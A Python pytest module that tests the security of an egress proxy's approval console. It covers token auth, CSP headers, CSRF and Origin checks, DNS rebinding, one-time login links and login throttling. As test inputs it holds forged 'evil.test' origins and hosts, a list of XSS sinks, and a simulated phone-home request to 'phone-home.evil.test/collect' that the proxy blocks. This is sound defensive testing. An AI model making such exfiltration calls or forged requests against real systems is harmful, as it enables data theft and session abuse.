"""The console's guard and the operator API, attacked the way a hostile page or skill would.

No admin token is configured in this world: approvals and the console still need one (the
run's generated token), because a skill on the same host must not approve its own requests.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator

import httpx
import pytest

from tests.approvals.conftest import PLACEHOLDER, ApprovalWorld

CSP = ("default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; "
       "connect-src 'self'; form-action 'none'; frame-ancestors 'none'; base-uri 'none'")


@pytest.fixture(autouse=True)
def no_open_approvals_left(aw: ApprovalWorld) -> Iterator[None]:
    yield
    for approval in aw.pending():
        aw.api("POST", f"/api/approvals/{approval['id']}/deny", json_body={"note": "cleanup"})


def held(aw: ApprovalWorld, label: str) -> str:
    """A new open approval (skill quick, wait 0); its id."""
    with aw.client("quick") as c:
        resp = c.post(aw.url("/v1/refunds"), json={"test": label, "n": uuid.uuid4().hex},
                      headers={"Authorization": f"Bearer {PLACEHOLDER}"})
    assert resp.status_code == 428, resp.text
    return str(resp.json()["approval_id"])


def browser_like(aw: ApprovalWorld) -> httpx.Client:
    """A client that keeps cookies and sends the console's own Origin, like the page does."""
    return httpx.Client(base_url=aw.admin_url, timeout=10, trust_env=False,
                        headers={"Origin": aw.admin_url})


def login(c: httpx.Client, aw: ApprovalWorld, name: str = "alice") -> str:
    resp = c.post("/ui/login", json={"token": aw.token, "name": name})
    assert resp.status_code == 200, resp.text
    return str(resp.json()["csrf"])


def test_approvals_need_a_token_even_on_loopback_without_an_admin_token(
        aw: ApprovalWorld) -> None:
    record = aw.admin_record()
    assert len(record["token"]) >= 32 and record["url"].startswith("http://127.0.0.1:")
    assert (aw.data_dir / "admin.json").stat().st_mode & 0o777 == 0o600
    approval = held(aw, "token-needed")
    for method, path in (("GET", "/api/approvals"), ("GET", f"/api/approvals/{approval}"),
                         ("POST", f"/api/approvals/{approval}/approve"),
                         ("GET", "/api/events"), ("GET", "/api/audit")):
        for token in (None, "wrong-token-wrong-token-wrong"):
            resp = aw.api(method, path, token=token, json_body={} if method == "POST" else None)
            assert resp.status_code == 401, (method, path, token)
            assert "unauthorized" in resp.text
    assert aw.pending("quick")[0]["id"] == approval  # nothing got decided
    assert aw.api("GET", "/ui/session", token=None).json() == {"user": None, "csrf": None}
    assert aw.api("GET", "/healthz", token=None).status_code == 200  # the old rule still holds


def test_every_console_answer_carries_the_security_headers(aw: ApprovalWorld) -> None:
    for path, token in (("/ui/", None), ("/ui/console.js", None), ("/ui/console.css", None),
                        ("/api/approvals", True), ("/api/approvals", None), ("/ui/nothing", None)):
        resp = aw.api("GET", path, token=token)
        assert resp.headers["content-security-policy"] == CSP, path
        assert resp.headers["x-frame-options"] == "DENY"
        assert resp.headers["x-content-type-options"] == "nosniff"
        assert resp.headers["cache-control"] == "no-store"
        assert resp.headers["referrer-policy"] == "no-referrer"
        assert resp.headers["cross-origin-opener-policy"] == "same-origin"
    page = aw.api("GET", "/ui/", token=None).text
    assert "<script>" not in page and "<script src=\"/ui/console.js\"></script>" in page
    assert " style=" not in page and "http://" not in page and "https://" not in page
    script = aw.api("GET", "/ui/console.js", token=None).text
    for sink in (".innerHTML", ".outerHTML", "insertAdjacentHTML(", "document.write", "eval(",
                 "new Function", "setAttribute(\"on", "javascript:"):
        assert sink not in script, sink


def test_a_browser_session_decides_only_with_csrf_token_and_same_origin(
        aw: ApprovalWorld) -> None:
    approval = held(aw, "csrf")
    with browser_like(aw) as c:
        csrf = login(c, aw, "alice")
        cookie = next(h for h in c.cookies.jar if h.name == "egress_console")
        assert cookie.has_nonstandard_attr("HttpOnly")
        assert (cookie.get_nonstandard_attr("SameSite") or "").lower() == "strict"
        assert c.get("/ui/session").json() == {"user": "alice", "csrf": csrf}
        path = f"/api/approvals/{approval}/approve"
        assert c.post(path, json={}).status_code == 403  # no CSRF token
        assert c.post(path, json={}, headers={"X-Egress-CSRF": "forged"}).status_code == 403
        assert c.post(path, json={}, headers={"X-Egress-CSRF": csrf,
                                              "Origin": "http://evil.test"}).status_code == 403
        assert c.post(path, json={}, headers={"X-Egress-CSRF": csrf, "Origin": aw.admin_url,
                                              "Sec-Fetch-Site": "cross-site"}).status_code == 403
        assert aw.pending("quick")[0]["id"] == approval  # still undecided
        ok = c.post(path, json={"note": "looks right", "by": "mallory"},
                    headers={"X-Egress-CSRF": csrf})
        assert ok.status_code == 200, ok.text
        assert ok.json()["decided_by"] == "alice (console)"  # a session cannot claim a name
        c.post("/ui/logout", json={}, headers={"X-Egress-CSRF": csrf})
        assert c.get("/ui/session").json() == {"user": None, "csrf": None}
    [granted] = aw.audit(approval=approval, reason="approval_granted")
    assert granted["decided_by"] == "alice (console)" and granted["note"] == "looks right"


def test_login_is_refused_cross_origin_and_with_a_wrong_token(aw: ApprovalWorld) -> None:
    with httpx.Client(base_url=aw.admin_url, timeout=10, trust_env=False) as c:
        assert c.post("/ui/login", json={"token": aw.token, "name": "a"},
                      headers={"Origin": "http://evil.test"}).status_code == 403
        assert c.post("/ui/login", json={"token": aw.token, "name": "a"}).status_code == 403
        no_name = c.post("/ui/login", json={"token": aw.token},
                         headers={"Origin": aw.admin_url})
        assert no_name.status_code == 400 and "name" in no_name.json()["message"]
        wrong = c.post("/ui/login", json={"token": "x" * 43, "name": "a"},
                       headers={"Origin": aw.admin_url})
        assert wrong.status_code == 401 and "set-cookie" not in wrong.headers


def test_a_page_reached_through_dns_rebinding_is_refused(aw: ApprovalWorld) -> None:
    for path in ("/ui/", "/api/approvals"):
        resp = aw.api("GET", path, headers={"Host": f"rebind.evil.test:{aw.admin_url.rsplit(':', 1)[1]}"})
        assert resp.status_code == 421, path
    assert aw.api("GET", "/api/approvals", headers={"Host": "localhost"}).status_code == 200


def test_a_login_link_logs_in_once(aw: ApprovalWorld) -> None:
    link = aw.cli("console", "--name", "bob").stdout.strip()
    assert link.startswith(f"{aw.admin_url}/ui/#code=")
    code = link.split("#code=", 1)[1]
    with browser_like(aw) as c:
        first = c.post("/ui/login", json={"code": code})
        assert first.status_code == 200 and first.json()["user"] == "bob"
        csrf = first.json()["csrf"]
        assert c.post("/api/login-link", json={"name": "eve"},
                      headers={"X-Egress-CSRF": csrf}).status_code == 403  # bearer only
    with browser_like(aw) as c:
        assert c.post("/ui/login", json={"code": code}).status_code == 401  # used


def test_events_stream_pending_approvals_as_they_change(aw: ApprovalWorld) -> None:
    events: list[dict[str, object]] = []
    with httpx.Client(timeout=httpx.Timeout(10, read=10), trust_env=False) as c, \
            c.stream("GET", aw.admin_url + "/api/events",
                     headers={"Authorization": f"Bearer {aw.token}"}) as resp:
        assert resp.status_code == 200
        assert resp.headers["content-type"].startswith("text/event-stream")
        approval = None
        for line in resp.iter_lines():
            if line.startswith("data: "):
                events.append(json.loads(line[6:]))
                if len(events) == 1:
                    approval = held(aw, "sse")
                elif any(a["id"] == approval for a in events[-1]["approvals"]):  # type: ignore[union-attr]
                    break
    assert approval is not None and len(events) >= 2
    first = events[0]["approvals"]
    assert all(a["id"] != approval for a in first)  # type: ignore[union-attr]


def test_activity_audit_and_skills_views(aw: ApprovalWorld) -> None:
    with aw.client("payer") as c, pytest.raises(httpx.ProxyError):  # a refused CONNECT
        c.get("https://phone-home.evil.test/collect")  # a phone-home attempt, audited
    audit = aw.api("GET", "/api/audit?skill=payer&reason=host_not_allowed").json()
    assert audit["records"] and all(r["skill"] == "payer" for r in audit["records"])
    assert audit["records"][0]["host"] == "phone-home.evil.test"
    assert aw.api("GET", "/api/audit?since=garbage").status_code == 400
    everything = aw.api("GET", "/api/audit?decision=all&limit=5").json()["records"]
    assert 0 < len(everything) <= 5
    activity = aw.api("GET", "/api/activity?minutes=60").json()
    assert "payer" in activity["timeline"]["skills"]
    assert sum(activity["timeline"]["skills"]["payer"]["denials"]) >= 1
    assert ["phone-home.evil.test", 1] in activity["top_denied_hosts"]["payer"]
    skills = {s["name"]: s for s in aw.api("GET", "/api/skills").json()["skills"]}
    payer = skills["payer"]
    assert payer["mode"] == "enforce" and payer["last_activity"]
    assert [c["name"] for c in payer["credentials"]] == ["stripe", "mail"]
    assert payer["rules"][0]["approval"] == {"wait": 15.0, "valid_for": 600.0}
    assert skills["reporter"]["mode"] == "report"
    assert "APPROVAL_TEST_KEY" not in json.dumps(skills)  # names, never where keys live


def test_failed_logins_are_throttled(aw: ApprovalWorld) -> None:
    with httpx.Client(base_url=aw.admin_url, timeout=10, trust_env=False,
                      headers={"Origin": aw.admin_url}) as c:
        codes = [c.post("/ui/login", json={"token": f"guess-{i}", "name": "x"}).status_code
                 for i in range(12)]
        # 10 failures a minute (earlier tests of this module spent a few): then 429 only.
        assert codes == sorted(codes) and set(codes) == {401, 429} and codes.count(401) <= 10
        # Even the right token waits out the minute: guessing gets nowhere faster.
        assert c.post("/ui/login", json={"token": aw.token, "name": "x"}).status_code == 429
